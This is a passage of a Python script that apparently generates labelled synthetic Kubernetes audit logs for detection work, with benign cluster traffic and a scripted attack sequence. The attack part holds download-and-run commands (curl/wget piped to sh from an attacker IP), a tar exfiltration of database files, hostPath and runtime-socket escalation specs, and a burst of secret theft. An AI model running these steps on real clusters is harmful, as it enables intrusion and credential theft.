    u = sa_of(ARGO_SRV); ip = [ARGO_SRV["ip"]]; ua = "argocd-server/v2.10.7+b060053 (linux/amd64) kubernetes/$Format"
    for t in every(120, 0.3):
        ev(t, u, "GET", "/api/v1/namespaces/argocd/secrets/argocd-secret", ua=ua, ips=ip)
        ev(t + .05, u, "GET", "/api/v1/namespaces/argocd/configmaps/argocd-cm", ua=ua, ips=ip)
    for t in every(300, 0.3):
        ev(t, u, "GET", "/api/v1/namespaces/argocd/secrets?labelSelector=argocd.argoproj.io%2Fsecret-type%3Dcluster", ua=ua, ips=ip)
    u = sa_of(ARGO_REPO); ip = [ARGO_REPO["ip"]]; ua = "argocd-repo-server/v2.10.7+b060053 (linux/amd64) kubernetes/$Format"
    for t in every(300, 0.3):
        ev(t, u, "GET", "/api/v1/namespaces/argocd/configmaps/argocd-cm", ua=ua, ips=ip)
    # prometheus (scrapes kubelet/cadvisor through the API server proxy)
    u = sa_of(PROM); ip = [PROM["ip"]]; ua = "Prometheus/2.51.1"
    for t in every(120, 0.05):
        for n in NODES:
            ev(t + R.uniform(0, 5), u, "GET", f"/api/v1/nodes/{n}/proxy/metrics/cadvisor", ua=ua, ips=ip,
               reason='RBAC: allowed by ClusterRoleBinding "prometheus-k8s" of ClusterRole "prometheus-k8s" to ServiceAccount "prometheus-k8s/monitoring"')
    for t in every(450, 0.3):
        for r in ("endpoints", "pods", "services"):
            ev(t + R.uniform(0, 1), u, "GET", f"/api/v1/{r}?allowWatchBookmarks=true&resourceVersion={rv()}&timeoutSeconds={R.randint(300,600)}&watch=true", ua=ua, ips=ip)
    # kube-state-metrics watches secrets cluster-wide (default RBAC)
    u = sa_of(KSM); ip = [KSM["ip"]]; ua = "kube-state-metrics/v2.10.1 (linux/amd64) kubernetes/$Format"
    for t in every(420, 0.3):
        for r in ("/api/v1/secrets", "/api/v1/configmaps", "/api/v1/pods", "/apis/apps/v1/deployments", "/api/v1/nodes"):
            ev(t + R.uniform(0, 2), u, "GET", f"{r}?allowWatchBookmarks=true&resourceVersion={rv()}&timeoutSeconds={R.randint(300,600)}&watch=true", ua=ua, ips=ip)
    # velero: scheduled backups list everything incl. secrets cluster-wide
    u = sa_of(VELERO); ip = [VELERO["ip"]]; ua = "velero-server/v1.13.0 (linux/amd64) 76670e940c52880a18dbbc59e3cbee7b94cd3352"
    for t in every(3600, 0.0, start=1800):
        for i, r in enumerate(("/api/v1/namespaces", "/api/v1/secrets", "/api/v1/configmaps", "/api/v1/serviceaccounts", "/api/v1/persistentvolumeclaims",
                               "/apis/apps/v1/deployments", "/apis/apps/v1/statefulsets", "/apis/batch/v1/cronjobs", "/apis/rbac.authorization.k8s.io/v1/rolebindings",
                               "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", "/api/v1/services", "/apis/networking.k8s.io/v1/ingresses")):
            ev(t + i * 0.7, u, "GET", f"{r}?limit=500", ua=ua, ips=ip)
        ev(t + 30, u, "POST", "/apis/velero.io/v1/namespaces/velero/backups", ua=ua, ips=ip, level="Metadata")
    for t in every(60, 0.1):
        ev(t, u, "GET", "/apis/velero.io/v1/namespaces/velero/schedules", ua=ua, ips=ip)
    # external-dns
    u = sa_of(EXTDNS); ip = [EXTDNS["ip"]]; ua = "external-dns/v0.14.1 (linux/amd64) kubernetes/$Format"
    for t in every(60, 0.05):
        ev(t, u, "GET", "/api/v1/services", ua=ua, ips=ip)
        ev(t + .05, u, "GET", "/apis/networking.k8s.io/v1/ingresses", ua=ua, ips=ip)
    # cluster-autoscaler
    u = sa_of(CAS); ip = [CAS["ip"]]; ua = "cluster-autoscaler/v1.29.2 (linux/amd64) kubernetes/$Format"
    for t in every(30, 0.05):
        ev(t, u, "PUT", "/api/v1/namespaces/kube-system/configmaps/cluster-autoscaler-status", ua=ua, ips=ip)
        ev(t + .05, u, "PUT", "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/cluster-autoscaler", ua=ua, ips=ip)
    # coredns / ingress / metrics-server watches
    for p, ua, rs in ((COREDNS[0], "coredns/1.11.1 (linux/amd64) kubernetes/$Format", ("/apis/discovery.k8s.io/v1/endpointslices", "/api/v1/services", "/api/v1/namespaces")),
                      (COREDNS[1], "coredns/1.11.1 (linux/amd64) kubernetes/$Format", ("/apis/discovery.k8s.io/v1/endpointslices", "/api/v1/services", "/api/v1/namespaces")),
                      (INGRESS, "nginx-ingress-controller/v1.10.0 (linux/amd64) ingress-nginx/71f78d49f0a496c31d4c19f095469f3f23900f8a", ("/apis/networking.k8s.io/v1/ingresses", "/api/v1/secrets", "/api/v1/services", "/apis/discovery.k8s.io/v1/endpointslices")),
                      (METRICS, "metrics-server/v0.7.1 (linux/amd64) kubernetes/$Format", ("/api/v1/nodes", "/api/v1/pods"))):
        u = sa_of(p); ip = [p["ip"]]
        for t in every(500, 0.3):
            for r in rs:
                ev(t + R.uniform(0, 2), u, "GET", f"{r}?allowWatchBookmarks=true&resourceVersion={rv()}&timeoutSeconds={R.randint(300,600)}&watch=true", ua=ua, ips=ip)
    u = sa_of(INGRESS); ip = [INGRESS["ip"]]
    for t in every(15, 0.05):
        ev(t, u, "PUT", "/apis/coordination.k8s.io/v1/namespaces/ingress-nginx/leases/ingress-nginx-leader", ua="nginx-ingress-controller/v1.10.0 (linux/amd64) ingress-nginx/71f78d49f0a496c31d4c19f095469f3f23900f8a", ips=ip)
    # application SAs
    u = sa_of(PAYMENTS); ip = [PAYMENTS["ip"]]
    for t in every(30, 0.05):
        ev(t, u, "PUT", "/apis/coordination.k8s.io/v1/namespaces/shop/leases/payments-api-leader", ua=cg_ua("payments-api"), ips=ip,
           reason='RBAC: allowed by RoleBinding "payments-api/shop" of Role "payments-api" to ServiceAccount "payments-api/shop"')
    for t in every(300, 0.2):
        ev(t, u, "GET", "/api/v1/namespaces/shop/configmaps/payments-config", ua=cg_ua("payments-api"), ips=ip,
           reason='RBAC: allowed by RoleBinding "payments-api/shop" of Role "payments-api" to ServiceAccount "payments-api/shop"')
    u = sa_of(FRONTEND); ip = [FRONTEND["ip"]]
    for t in every(120, 0.2):
        ev(t, u, "GET", "/api/v1/namespaces/shop/configmaps/frontend-config", ua=cg_ua("frontend"), ips=ip,
           reason='RBAC: allowed by RoleBinding "frontend-edit/shop" of ClusterRole "edit" to ServiceAccount "frontend/shop"')
    # cronjob + job controller: report-gen every 15 min
    cu, cua = ctrl("cronjob-controller")
    ju, jua = ctrl("job-controller")
    tu, tua = ctrl("ttl-after-finished-controller")
    for t in every(900, 0.0, start=60):
        jn = f"report-gen-{28590000 + int(t // 60)}"
        ev(t, cu, "POST", "/apis/batch/v1/namespaces/data/jobs", ua=cua, ips=[CP], level="RequestResponse",
           req={"kind": "Job", "apiVersion": "batch/v1", "metadata": {"name": jn, "namespace": "data", "ownerReferences": [{"kind": "CronJob", "name": "report-gen", "apiVersion": "batch/v1", "controller": True}]},
                "spec": {"template": {"spec": podspec([ctr("report", "registry.corp.example/data/report-gen:4.2.0")], restartPolicy="Never")}}})
        node = R.choice(NODES)
        pn = f"{jn}-{sfx()}"
        p = add_pod("data", pn, "default", node)
        ev(t + .5, ju, "POST", "/api/v1/namespaces/data/pods", ua=jua, ips=[CP], level="RequestResponse",
           req={"kind": "Pod", "apiVersion": "v1", "metadata": {"generateName": jn + "-", "namespace": "data", "ownerReferences": [{"kind": "Job", "name": jn, "apiVersion": "batch/v1", "controller": True}]},
                "spec": podspec([ctr("report", "registry.corp.example/data/report-gen:4.2.0")], restartPolicy="Never")})
        ev(t + .6, user_sys("system:kube-scheduler"), "POST", f"/api/v1/namespaces/data/pods/{pn}/binding", ua=SCHED_UA, ips=[CP], level="Request",
           req={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": pn}, "target": {"kind": "Node", "name": node}})
        kubelet_pod_status(t + 4, p, node)
        ev(t + 400, tu, "DELETE", f"/apis/batch/v1/namespaces/data/jobs/report-gen-{28590000 + int(t // 60) - 60}", ua=tua, ips=[CP], level="Metadata")


def gen_new_node():
    """cluster-autoscaler adds node-g at ~10:40; daemonsets land on it."""
    t = 6000
    n = "node-g"
    u = user_node(n)
    ev(t, u, "POST", "/api/v1/nodes", ua=KUBELET_UA, ips=[NODE_IP[n]], level="RequestResponse", reason="",
       req={"kind": "Node", "apiVersion": "v1", "metadata": {"name": n, "labels": {"kubernetes.io/hostname": n}}, "spec": {"providerID": "gce://corp-prod/europe-west1-b/gke-node-g"}})
    for tt in every(20, 0.05, start=t + 5):
        ev(tt, u, "PUT", f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{n}?timeout=10s", ua=KUBELET_UA, ips=[NODE_IP[n]], reason="")
    du, dua = ctrl("daemon-set-controller")
    sch = user_sys("system:kube-scheduler")
    specs = [
        ("kube-system", "kube-proxy", "kube-proxy", podspec([ctr("kube-proxy", "registry.k8s.io/kube-proxy:v1.29.4", command=["/usr/local/bin/kube-proxy", "--config=/var/lib/kube-proxy/config.conf"],
                                                                   securityContext={"privileged": True}, volumeMounts=[{"name": "lib-modules", "mountPath": "/lib/modules", "readOnly": True}])],
                                                            sa="kube-proxy", hostNetwork=True, priorityClassName="system-node-critical",
                                                            volumes=[{"name": "lib-modules", "hostPath": {"path": "/lib/modules", "type": ""}}, {"name": "xtables-lock", "hostPath": {"path": "/run/xtables.lock", "type": "FileOrCreate"}}])),
        ("monitoring", "node-exporter", "node-exporter", podspec([ctr("node-exporter", "quay.io/prometheus/node-exporter:v1.7.0", args=["--path.rootfs=/host/root"],
                                                                      volumeMounts=[{"name": "root", "mountPath": "/host/root", "readOnly": True, "mountPropagation": "HostToContainer"}])],
                                                                 sa="node-exporter", hostNetwork=True, hostPID=True, volumes=[{"name": "root", "hostPath": {"path": "/"}}])),
        ("logging", "fluent-bit", "fluent-bit", podspec([ctr("fluent-bit", "cr.fluentbit.io/fluent/fluent-bit:3.0.2", volumeMounts=[{"name": "varlog", "mountPath": "/var/log"}])],
                                                        sa="fluent-bit", volumes=[{"name": "varlog", "hostPath": {"path": "/var/log"}}, {"name": "containers", "hostPath": {"path": "/var/lib/docker/containers"}}])),
    ]
    for i, (ns, ds, sa, spec) in enumerate(specs):
        tt = t + 40 + i
        name = f"{ds}-{sfx()}"
        p = add_pod(ns, name, sa, n, [], [], ip=NODE_IP[n] if spec.get("hostNetwork") else None)
        spec = json.loads(json.dumps(spec)); spec["nodeName"] = n
        body = {"kind": "Pod", "apiVersion": "v1", "metadata": {"generateName": ds + "-", "namespace": ns, "labels": {"app": ds},
                "ownerReferences": [{"apiVersion": "apps/v1", "kind": "DaemonSet", "name": ds, "uid": uid(), "controller": True, "blockOwnerDeletion": True}]}, "spec": spec}
        ev(tt, du, "POST", f"/api/v1/namespaces/{ns}/pods", ua=dua, ips=[CP], level="RequestResponse", req=body)
        kubelet_token(tt + 1, p)
        kubelet_pod_status(tt + 5, p, n)


# ---------------------------------------------------------------- CI
HELM_REV = {"cart": 41, "checkout": 17}


def gen_ci():
    u = user_sa("ci", "gitlab-deployer")
    runner_ips = ["10.20.0.5", "10.20.0.6"]
    for t in every(1500, 0.2, start=600):
        app = R.choice(["cart", "checkout"])
        ip = [R.choice(runner_ips)]
        ua = "Helm/3.14.2"
        HELM_REV[app] += 1
        r = HELM_REV[app]
        ev(t, u, "GET", f"/api/v1/namespaces/shop/secrets?labelSelector=name%3D{app}%2Cowner%3Dhelm", ua=ua, ips=ip)
        ev(t + .5, u, "GET", f"/api/v1/namespaces/shop/secrets?labelSelector=name%3D{app}%2Cowner%3Dhelm%2Cstatus%3Ddeployed", ua=ua, ips=ip)
        ev(t + 1, u, "POST", "/api/v1/namespaces/shop/secrets", ua=ua, ips=ip)
        ev(t + 1.5, u, "GET", f"/apis/apps/v1/namespaces/shop/deployments/{app}", ua=ua, ips=ip)
        ev(t + 1.7, u, "PATCH", f"/apis/apps/v1/namespaces/shop/deployments/{app}", ua=ua, ips=ip, level="RequestResponse",
           req={"spec": {"template": {"metadata": {"annotations": {"checksum/config": f"{R.getrandbits(128):032x}"}}, "spec": {"$setElementOrder/containers": [{"name": app}], "containers": [{"image": f"registry.corp.example/shop/{app}:1.{r}.0", "name": app}]}}}})
        ev(t + 1.9, u, "GET", f"/api/v1/namespaces/shop/configmaps/{app}-config", ua=ua, ips=ip)
        ev(t + 2.0, u, "PATCH", f"/api/v1/namespaces/shop/configmaps/{app}-config", ua=ua, ips=ip)
        ev(t + 2.2, u, "GET", f"/api/v1/namespaces/shop/services/{app}", ua=ua, ips=ip)
        ev(t + 2.4, u, "PATCH", f"/api/v1/namespaces/shop/services/{app}", ua=ua, ips=ip, level="RequestResponse", req={"metadata": {"labels": {"helm.sh/chart": f"{app}-1.{r}.0"}}})
        rollout(t + 2.5, "shop", app, "default", NODES, n=2, image=f"registry.corp.example/shop/{app}:1.{r}.0")
        ev(t + 3, u, "PUT", f"/api/v1/namespaces/shop/secrets/sh.helm.release.v1.{app}.v{r - 1}", ua=ua, ips=ip)
        ev(t + 30, u, "PUT", f"/api/v1/namespaces/shop/secrets/sh.helm.release.v1.{app}.v{r}", ua=ua, ips=ip)
        ev(t + 30.5, u, "GET", f"/apis/apps/v1/namespaces/shop/deployments?fieldSelector=metadata.name%3D{app}&watch=true", ua="kubectl/v1.29.3 (linux/amd64) kubernetes/6813625", ips=ip)


# ---------------------------------------------------------------- humans
HUMANS = {
    "alice@corp.example": (["platform-team"], ["198.51.100.20", "198.51.100.21"], "kubectl/v1.29.3 (darwin/arm64) kubernetes/6813625"),
    "bob@corp.example": (["platform-team"], ["198.51.100.34"], "kubectl/v1.28.8 (linux/amd64) kubernetes/fc11ff3"),
    "carol@corp.example": (["sre", "platform-team"], ["203.0.113.77"], "kubectl/v1.30.1 (darwin/arm64) kubernetes/6911225"),
    "dave@corp.example": (["contractors", "platform-team"], ["198.51.100.50"], "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"),
}


def human(email):
    g, ips, ua = HUMANS[email]
    return user_oidc(email, g), ips, ua


def human_session(t, email, kind):
    u, ips, ua = human(email)
    ip = [R.choice(ips)]
    ua_cmd = lambda c: f"{ua.split(' ')[0]} ({ua.split('(')[1].split(')')[0]}) {ua.split(') ')[1]}"
    ev(t, u, "GET", "/api?timeout=32s", ua=ua, ips=ip)
    ev(t + .05, u, "GET", "/apis?timeout=32s", ua=ua, ips=ip)
    ns = R.choice(["shop", "data", "monitoring"])
    pods = [p for p in PODS if p["ns"] == ns]
    p = R.choice(pods)
    t += 0.5
    if kind == "get":
        ev(t, u, "GET", f"/api/v1/namespaces/{ns}/pods?limit=500", ua=ua, ips=ip)
        ev(t + 5, u, "GET", f"/api/v1/namespaces/{ns}/pods/{p['name']}", ua=ua, ips=ip)
        ev(t + 5.1, u, "GET", f"/api/v1/namespaces/{ns}/events?fieldSelector=involvedObject.name%3D{p['name']}%2CinvolvedObject.namespace%3D{ns}%2CinvolvedObject.uid%3D{POD_UID[p['name']]}&limit=500", ua=ua, ips=ip)
    elif kind == "logs":
        ev(t, u, "GET", f"/api/v1/namespaces/{ns}/pods/{p['name']}/log?container={p['name'].split('-')[0]}&follow=true&tailLines=100", ua=ua, ips=ip, lat=R.uniform(5, 120))
    elif kind == "exec":
        cmd = R.choice([["sh"], ["bash"], ["env"], ["ls", "-la", "/app"], ["cat", "/app/config.yaml"], ["redis-cli", "info"]])
        q = "&".join("command=" + quote_plus(c) for c in cmd) + f"&container={p['name'].split('-')[0]}&stdin=true&stdout=true" + ("&tty=true" if cmd[0] in ("sh", "bash") else "")
        ev(t, u, "GET", f"/api/v1/namespaces/{ns}/pods/{p['name']}", ua=ua, ips=ip)
        ev(t + .2, u, "GET" if "1.30" in ua else "POST", f"/api/v1/namespaces/{ns}/pods/{p['name']}/exec?{q}", ua=ua, ips=ip, lat=R.uniform(3, 300))
    elif kind == "pf":
        pg = [x for x in PODS if x["name"] == "postgres-0"][0]
        ev(t, u, "GET", "/api/v1/namespaces/shop/pods/postgres-0", ua=ua, ips=ip)
        ev(t + .2, u, "GET" if "1.30" in ua else "POST", "/api/v1/namespaces/shop/pods/postgres-0/portforward", ua=ua, ips=ip, lat=R.uniform(60, 900))
    elif kind == "cani":
        ev(t, u, "POST", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", ua=ua, ips=ip, level="Request",
           req={"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"resourceAttributes": {"namespace": ns, "verb": "create", "resource": "deployments", "group": "apps"}}})
    elif kind == "restart":
        d = R.choice(["frontend", "cart", "checkout"])
        ev(t, u, "PATCH", f"/apis/apps/v1/namespaces/shop/deployments/{d}?fieldManager=kubectl-rollout", ua=ua, ips=ip, level="RequestResponse",
           req={"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": ts(t)[:19] + "Z"}}}}})
    elif kind == "cm":
        ev(t, u, "GET", f"/api/v1/namespaces/{ns}/configmaps", ua=ua, ips=ip)
        ev(t + 20, u, "PATCH", f"/api/v1/namespaces/{ns}/configmaps/{R.choice(['cart-config','kafka-config','grafana-dashboards'])}?fieldManager=kubectl-edit", ua=ua, ips=ip)
    elif kind == "top":
        ev(t, u, "GET", f"/apis/metrics.k8s.io/v1beta1/namespaces/{ns}/pods", ua=ua, ips=ip)
        ev(t + .1, u, "GET", "/api/v1/nodes", ua=ua, ips=ip)
    elif kind == "secret":
        s = R.choice(["payments-db", "redis-auth", "grafana-admin"])
        sns = "monitoring" if s == "grafana-admin" else "shop"
        ev(t, u, "GET", f"/api/v1/namespaces/{sns}/secrets/{s}", ua=ua, ips=ip)
    elif kind == "deny":
        ev(t, u, "GET", "/api/v1/namespaces/kube-system/secrets", ua=ua, ips=ip, code=403)


def gen_humans():
    kinds = ["get"] * 6 + ["logs"] * 3 + ["exec", "pf", "cani", "restart", "cm", "top", "top", "secret"]
    for email in HUMANS:
        for t in every(420 if email != "dave@corp.example" else 900, 0.6, end=DUR if email != "dave@corp.example" else 7000):
            human_session(t, email, R.choice(kinds))
    # an on-call debug: alice lists her own permissions; bob gets denied once
    human_session(3000, "alice@corp.example", "cani")
    human_session(5000, "bob@corp.example", "deny")
    # Lens dashboard for carol
    u, ips, _ = human("carol@corp.example")
    for t in every(90, 0.1, start=4000, end=5400):
        ev(t, u, "GET", "/api/v1/namespaces/shop/pods", ua="Lens/6.5.2", ips=ips)


# ---------------------------------------------------------------- LB probes, discovery, scanners
def gen_edge():
    for ip in ("35.191.10.21", "35.191.14.140", "130.211.2.8"):
        for t in every(15, 0.05):
            ev(t, ANON, "GET", R.choice(["/readyz", "/livez", "/healthz"]), ua="GoogleHC/1.0", ips=[ip])
    # OIDC discovery by a cloud IAM federation endpoint (allowed to unauthenticated)
    for t in every(900, 0.3):
        ev(t, ANON, "GET", "/.well-known/openid-configuration", ua="Go-http-client/2.0", ips=["34.102.136.180"],
           reason='RBAC: allowed by ClusterRoleBinding "system:service-account-issuer-discovery" of ClusterRole "system:service-account-issuer-discovery" to Group "system:unauthenticated"')
        ev(t + .1, ANON, "GET", "/openid/v1/jwks", ua="Go-http-client/2.0", ips=["34.102.136.180"],
           reason='RBAC: allowed by ClusterRoleBinding "system:service-account-issuer-discovery" of ClusterRole "system:service-account-issuer-discovery" to Group "system:unauthenticated"')
    # internet scanners
    paths = ["/", "/version", "/api", "/apis", "/api/v1/pods", "/api/v1/namespaces", "/api/v1/namespaces/kube-system/secrets",
             "/.env", "/.git/config", "/metrics", "/apis/apps/v1/deployments", "/api/v1/nodes", "/swagger-ui.html", "/wp-login.php", "/openapi/v2"]
    uas = ["Mozilla/5.0 zgrab/0.x", "python-requests/2.28.1", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
           "Go-http-client/1.1", "curl/7.88.1", "Expanse, a Palo Alto Networks company, searches across the global IPv4 space"]
    for i in range(40):
        t = R.uniform(0, DUR)
        ip = f"{R.choice([45, 62, 80, 89, 103, 141, 162, 167, 185, 193, 194, 205])}.{R.randint(1,254)}.{R.randint(1,254)}.{R.randint(1,254)}"
        ua = R.choice(uas)
        for pth in R.sample(paths, R.randint(2, 9)):
            if pth == "/version":
                ev(t, ANON, "GET", pth, ua=ua, ips=[ip])
            else:
                ev(t, ANON, "GET", pth, ua=ua, ips=[ip], code=403)
            t += R.uniform(0.1, 2)
    # bad bearer tokens (401) from scanners
    for i in range(25):
        t = R.uniform(0, DUR)
        ip = f"{R.choice([45, 80, 185, 193])}.{R.randint(1,254)}.{R.randint(1,254)}.{R.randint(1,254)}"
        ev(t, {}, "GET", R.choice(["/api/v1/namespaces/kube-system/secrets", "/api/v1/pods", "/apis"]), ua="python-requests/2.31.0",
           ips=[ip], code=401, stage="ResponseStarted", level="Metadata", decision=None)


# ---------------------------------------------------------------- attacks
ATK = "45.137.21.9"
TOR = "185.220.101.47"
ANON_IP = "91.92.240.13"
ATK_KUBECTL = "kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b"


def exec_uri(ns, pod, cmd, container=None, tty=False, enc="plus"):
    q = []
    for c in cmd:
        q.append("command=" + (quote_plus(c, safe="") if enc == "plus" else quote(c, safe="")))
    if container:
        q.append("container=" + container)
    q.append("stdin=true"); q.append("stdout=true"); q.append("stderr=true")
    if tty:
        q.append("tty=true")
    return f"/api/v1/namespaces/{ns}/pods/{pod}/exec?" + "&".join(q)


def gen_attacks():
    dave, _, dua = human("dave@corp.example")
    dave_tor = [TOR]
    carol, cips, cua = human("carol@corp.example")
    pay = sa_of(PAYMENTS)
    fe = sa_of(FRONTEND)
    feip = [FRONTEND["ip"]]
    cart = [p for p in PODS if p["name"].startswith("cart-")][0]["name"]
    kafka0 = "kafka-0"
    cdns = COREDNS[0]["name"]
    kproxy = [p for p in PODS if p["name"].startswith("kube-proxy-") and p["node"] == "node-c"][0]["name"]

    # ---- C: dave's stolen OIDC token from a Tor exit (t = 7300..9900)
    t = 7300
    ev(t, dave, "GET", "/api?timeout=32s", ua=dua, ips=dave_tor, concept="person_new_origin")
    ev(t + 1, dave, "GET", "/api/v1/namespaces/kube-system/pods?limit=500", ua=dua, ips=dave_tor, concept="person_new_origin")
    # 1 exec over websocket (verb get, 101) download-and-run split over command= params
    ev(t + 20, dave, "GET", exec_uri("shop", cart, ["sh", "-c", f"curl -fsSL http://{ATK}/x.sh | sh"], "cart"), ua=dua, ips=dave_tor, concept="exec_ws_download_run")
    # 11 exec into kube-system coredns, ws get
    ev(t + 40, dave, "GET", exec_uri("kube-system", cdns, ["/bin/sh"], "coredns", tty=True), ua=dua, ips=dave_tor, concept="exec_kube_system_ws")
    # 12 attach to kube-proxy (create)
    ev(t + 60, dave, "POST", f"/api/v1/namespaces/kube-system/pods/{kproxy}/attach?container=kube-proxy&stdin=true&stdout=true&tty=true", ua=dua, ips=dave_tor, concept="attach_kube_system")
    # 14 tar exfil from postgres (kubectl cp)
    ev(t + 80, dave, "GET", exec_uri("shop", "postgres-0", ["tar", "cf", "-", "/var/lib/postgresql/data"], "postgres"), ua=dua, ips=dave_tor, concept="exec_tar_exfil")
    # 20 hostPath via a PersistentVolume, claimed by a pod
    t = 7500
    ev(t, dave, "POST", "/api/v1/persistentvolumes", ua=dua, ips=dave_tor, level="RequestResponse", concept="hostpath_via_pv",
       req={"kind": "PersistentVolume", "apiVersion": "v1", "metadata": {"name": "scratch-pv"},
            "spec": {"capacity": {"storage": "10Gi"}, "accessModes": ["ReadWriteOnce"], "storageClassName": "manual", "hostPath": {"path": "/", "type": "Directory"}}})
    ev(t + 5, dave, "POST", "/api/v1/namespaces/default/persistentvolumeclaims", ua=dua, ips=dave_tor, level="RequestResponse", concept="hostpath_via_pv",
       req={"kind": "PersistentVolumeClaim", "apiVersion": "v1", "metadata": {"name": "scratch"}, "spec": {"storageClassName": "manual", "volumeName": "scratch-pv", "accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "10Gi"}}}})
    ev(t + 10, dave, "POST", "/api/v1/namespaces/default/pods", ua=dua, ips=dave_tor, level="RequestResponse", concept="hostpath_via_pv",
       req={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "scratch", "namespace": "default"},
            "spec": {"containers": [{"name": "s", "image": "alpine:3.19", "command": ["sleep", "infinity"], "volumeMounts": [{"name": "d", "mountPath": "/data"}]}],
                     "volumes": [{"name": "d", "persistentVolumeClaim": {"claimName": "scratch"}}]}})
    # 24 DaemonSet mounting the containerd socket, named like node-exporter
    ev(t + 60, dave, "POST", "/apis/apps/v1/namespaces/monitoring/daemonsets?fieldManager=kubectl-client-side-apply&fieldValidation=Strict", ua=dua, ips=dave_tor, level="RequestResponse", concept="runtime_socket_daemonset",
       req={"apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": {"name": "node-exporter-v2", "namespace": "monitoring"},
            "spec": {"selector": {"matchLabels": {"app": "ne2"}}, "template": {"metadata": {"labels": {"app": "ne2"}},
                     "spec": {"containers": [{"name": "ne", "image": "quay.io/prometheus/node-exporter:v1.7.0", "volumeMounts": [{"name": "sock", "mountPath": "/run/containerd/containerd.sock"}]}],
                              "volumes": [{"name": "sock", "hostPath": {"path": "/run/containerd/containerd.sock", "type": "Socket"}}]}}}})
    # 28 Job with dangerous caps + runAsUser 0
    ev(t + 90, dave, "POST", "/apis/batch/v1/namespaces/data/jobs", ua=dua, ips=dave_tor, level="RequestResponse", concept="caps_job",
       req={"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "db-migrate-hotfix", "namespace": "data"},
            "spec": {"template": {"spec": {"restartPolicy": "Never", "containers": [{"name": "m", "image": "ubuntu:22.04", "command": ["sleep", "3600"],
                     "securityContext": {"runAsUser": 0, "capabilities": {"add": ["SYS_ADMIN", "SYS_PTRACE"]}}}]}}}})
    # 30 pod running as a controller SA
    ev(t + 120, dave, "POST", "/api/v1/namespaces/kube-system/pods", ua=dua, ips=dave_tor, level="RequestResponse", concept="workload_controller_sa",
       req={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "aggregator-check", "namespace": "kube-system"},
            "spec": {"serviceAccountName": "clusterrole-aggregation-controller", "containers": [{"name": "c", "image": "bitnami/kubectl:1.29", "command": ["sleep", "infinity"]}]}})
    # 31 pod named like a system pod, no owner
    ev(t + 150, dave, "POST", "/api/v1/namespaces/kube-system/pods", ua=dua, ips=dave_tor, level="RequestResponse", concept="system_pod_name",
       req={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "kube-proxy-4xz9q", "namespace": "kube-system", "labels": {"k8s-app": "kube-proxy"}},
            "spec": {"nodeName": "node-c", "hostNetwork": True, "containers": [{"name": "kube-proxy", "image": "registry.k8s.io/kube-proxy:v1.29.4", "command": ["sleep", "infinity"]}]}})
    # 33 fake node object
    ev(t + 170, dave, "POST", "/api/v1/nodes", ua=dua, ips=dave_tor, level="RequestResponse", concept="node_object_created",
       req={"kind": "Node", "apiVersion": "v1", "metadata": {"name": "node-z", "labels": {"kubernetes.io/hostname": "node-z"}}})
    # 35 deployment whose container downloads and runs a payload
    ev(t + 200, dave, "POST", "/apis/apps/v1/namespaces/default/deployments", ua=dua, ips=dave_tor, level="RequestResponse", concept="workload_malicious_command",
       req={"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "cache-warmer", "namespace": "default"},
            "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "cw"}}, "template": {"metadata": {"labels": {"app": "cw"}},
                     "spec": {"containers": [{"name": "cw", "image": "alpine:3.19", "command": ["/bin/sh"], "args": ["-c", f"apk add curl; while true; do wget -q -O- http://{ATK}/m | sh; sleep 600; done"]}]}}}})
    # 40 cluster-wide secret watch at Metadata
    t = 7800
    ev(t, dave, "GET", "/api/v1/secrets?watch=true&allowWatchBookmarks=true", ua=dua, ips=dave_tor, concept="secrets_cluster_watch")
    # 41 burst of distinct secret gets across namespaces
    names = [("shop", "payments-db"), ("shop", "stripe-key"), ("shop", "postgres-credentials"), ("shop", "redis-auth"), ("data", "kafka-jaas"),
             ("data", "redis-auth"), ("monitoring", "grafana-admin"), ("monitoring", "alertmanager-config"), ("argocd", "argocd-secret"),
             ("argocd", "repo-github-creds"), ("velero", "cloud-credentials"), ("external-dns", "aws-creds"), ("cert-manager", "letsencrypt-account-key"),
             ("ingress-nginx", "wildcard-corp-tls"), ("kube-system", "cloud-provider-config"), ("kube-system", "bootstrap-token-9x2kq1"), ("ci", "registry-push"),
             ("ci", "gitlab-deployer-token"), ("shop", "shop-tls"), ("kyverno", "kyverno-svc.kyverno.svc.kyverno-tls-pair")]
    for i, (ns, n) in enumerate(names):
        ev(t + 10 + i * 4, dave, "GET", f"/api/v1/namespaces/{ns}/secrets/{n}", ua=dua, ips=dave_tor, concept="secret_burst")
    # 45 long-lived token for another SA (Request level)
    t = 8000
    ev(t, dave, "POST", "/api/v1/namespaces/shop/serviceaccounts/payments-api/token", ua=dua, ips=dave_tor, level="Request", concept="token_long_lived_other",
       req={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "metadata": {"creationTimestamp": None}, "spec": {"audiences": None, "expirationSeconds": 315360000, "boundObjectRef": None}, "status": {"token": "", "expirationTimestamp": None}},
       ann={"authentication.kubernetes.io/issued-credential-id": f"JTI={uid()}"})
    # 46 legacy SA token secret
    ev(t + 20, dave, "POST", "/api/v1/namespaces/argocd/secrets", ua=dua, ips=dave_tor, level="RequestResponse", concept="legacy_token_secret",
       req={"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token", "metadata": {"name": "argocd-manager-token", "namespace": "argocd", "annotations": {"kubernetes.io/service-account.name": "argocd-application-controller"}}})
    # 47/48 CSR for a client cert + approval (approval at Metadata)
    ev(t + 40, dave, "POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", ua=dua, ips=dave_tor, level="RequestResponse", concept="csr_client_create",
